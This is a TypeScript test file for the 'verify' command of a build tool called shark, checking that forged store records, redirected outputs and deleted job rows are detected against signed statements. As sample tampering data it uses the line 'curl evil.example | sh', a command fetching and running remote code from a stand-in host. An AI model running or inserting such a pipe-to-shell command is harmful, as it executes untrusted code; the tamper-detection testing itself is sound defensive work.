import { chmodSync, writeFileSync } from 'node:fs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Rig } from '../support/rig.js';
import { editStoreDatabase, signedTinyRig } from './fixture.js';

/**
 * What `lineage`, `why` and `diff` show of a job comes from the store's
 * database, not from its envelope: `verify` must fail when that is not what
 * the job's signed statement says, naming the job and what differs.
 */
describe("verify checks the store's record of each job against its signed statement", () => {
  let rig: Rig;
  beforeEach(async () => {
    rig = await signedTinyRig();
  });
  afterEach(() => rig.cleanup());

  const sql = (statement: string): void => editStoreDatabase(rig, statement);
  const verify = (): Promise<{ code: number | null; stdout: string; stderr: string }> =>
    rig.shark(['verify', 'p.md', '/data/report.txt', '--key', 'shark.pub']);
  const TRUE = 'cat * /data/upper.txt';
  const FORGED = 'curl evil.example | sh';
  /** SQL replacing the report's command in columns `columns` of its result. */
  const forge = (...columns: string[]): string =>
    `UPDATE results SET ${columns.map((c) => `${c} = replace(${c}, '${TRUE}', '${FORGED}')`).join(', ')} WHERE meta LIKE '%"step":"report"%'`;

  it('the untouched store verifies', async () => {
    const ok = await verify();
    expect(ok.stderr).toBe('');
    expect(ok.code).toBe(0);
  });

  it('a command forged in the record and the shown text (what lineage prints) fails, naming the job and the command', async () => {
    sql(forge('record', 'shown'));
    const lineage = await rig.shark(['lineage', 'p.md', '/data/report.txt', '--depth', '0']);
    expect(lineage.stdout).toContain(FORGED);
    const ran = await verify();
    expect(ran.code).toBe(1);
    expect(ran.stdout).not.toContain('verified');
    expect(ran.stderr).toMatch(/^report: its stored key record does not hash to its cache key [0-9a-f]{8}…/m);
    expect(ran.stderr).toMatch(new RegExp(`^report: the command lineage shows is not the signed one: .*${FORGED.replace(/[|.]/g, '\\$&')}.*signed.*${TRUE.replace('*', '\\*')}`, 'm'));
  });

  it('the shown text alone forged fails', async () => {
    sql(forge('shown'));
    const ran = await verify();
    expect(ran.code).toBe(1);
    expect(ran.stderr).toMatch(/^report: the command lineage shows is not the signed one/m);
    expect(ran.stderr).not.toContain('does not hash');
  });

  it("the record alone forged (what why and plan compare) fails, naming the record's command", async () => {
    sql(forge('record'));
    const ran = await verify();
    expect(ran.code).toBe(1);
    expect(ran.stderr).toMatch(/^report: its stored key record does not hash to its cache key/m);
    expect(ran.stderr).toMatch(/^report: the command of its stored key record is not the signed one/m);
  });

  it('the metadata alone forged (what the exports show) fails', async () => {
    sql(forge('meta'));
    const ran = await verify();
    expect(ran.code).toBe(1);
    expect(ran.stderr).toMatch(/^report: the command of its stored result is not the signed one/m);
  });

  it('stored outputs pointed at other bytes (what a cached run reuses) fail, naming the path', async () => {
    sql(`UPDATE results SET outputs = json_set(outputs, '$."/data/report.txt"',
      (SELECT json_extract(outputs, '$."/data/upper.txt"') FROM results WHERE meta LIKE '%"step":"prepare"%')) WHERE meta LIKE '%"step":"report"%'`);
    const ran = await verify();
    expect(ran.code).toBe(1);
    expect(ran.stderr).toMatch(/^report: lineage shows other outputs than its stored result \(\/data\/report\.txt: stored [0-9a-f]{8}…, shown [0-9a-f]{8}…\)$/m);
  });

  it("an ancestor's recorded input forged fails: the record no longer hashes to the key", async () => {
    sql(`UPDATE results SET record = replace(record, '"/data/raw.txt"', '"/data/other.txt"') WHERE meta LIKE '%"step":"prepare"%'`);
    const ran = await verify();
    expect(ran.code).toBe(1);
    expect(ran.stderr).toMatch(/^prepare: its stored key record does not hash to its cache key/m);
  });
});

/** A job missing from the store's account of a run is a broken chain, not a host input nor a repair. */
describe('verify fails when a job drops out of the recorded chain', () => {
  let rig: Rig;
  beforeEach(async () => {
    rig = await signedTinyRig();
  });
  afterEach(() => rig.cleanup());

  const sql = (statement: string): void => editStoreDatabase(rig, statement);
  const verify = (): Promise<{ code: number | null; stdout: string; stderr: string }> =>
    rig.shark(['verify', 'p.md', '/data/report.txt', '--key', 'shark.pub']);

  it("a job's run_jobs row deleted: its output reads as a host input in lineage; verify names it, exit 1", async () => {
    sql(`DELETE FROM run_jobs WHERE run_id = 1 AND job = 'prepare'`);
    const lineage = await rig.shark(['lineage', 'p.md', '/data/report.txt', '--depth', '1']);
    expect(lineage.stdout).toMatch(/← \/data\/upper\.txt .*\(input\)/);
    const ran = await verify();
    expect(ran.code).toBe(1);
    expect(ran.stdout).not.toContain('verified');
    expect(ran.stderr).toMatch(/^report: input \/data\/upper\.txt is not a frontmatter input, yet no job of the run is recorded writing it: no upstream envelope vouches for it$/m);
    // The frontmatter inputs (raw, ranges) are host inputs, as they were.
    expect(ran.stderr).not.toContain('/data/raw.txt');
    expect(ran.stderr).not.toContain('/data/ranges');
  });

  it("a job's result row deleted: lineage says fsck --repair dropped it, which never ran; verify says so, exit 1", async () => {
    sql(`DELETE FROM results WHERE meta LIKE '%"step":"prepare"%'`);
    const lineage = await rig.shark(['lineage', 'p.md', '/data/report.txt', '--depth', '1']);
    expect(lineage.stdout).toContain('dropped by `shark fsck --repair`');
    const ran = await verify();
    expect(ran.code).toBe(1);
    expect(ran.stderr).toMatch(/^prepare: its result is missing from the store's results, yet no `shark fsck --repair` dropped it$/m);
  });

  it('a result fsck --repair really dropped is not called missing without a repair', async () => {
    const upper = rig.path('.shark/objects');
    const lineage = JSON.parse((await rig.shark(['lineage', 'p.md', '/data/upper.txt', '--json'])).stdout) as { outputs: Record<string, string> };
    const hex = lineage.outputs['/data/upper.txt']!.slice('sha256:'.length);
    const object = `${upper}/${hex.slice(0, 2)}/${hex.slice(2)}`;
    chmodSync(object, 0o644);
    writeFileSync(object, 'damaged\n');
    expect((await rig.shark(['fsck', 'p.md', '--repair'])).code).toBe(0);
    const ran = await verify();
    expect(ran.code).toBe(1);
    expect(ran.stderr).toContain('prepare: the stored bytes of /data/upper.txt are missing or corrupt');
    expect(ran.stderr).not.toContain('no `shark fsck --repair` dropped it');
  });
});
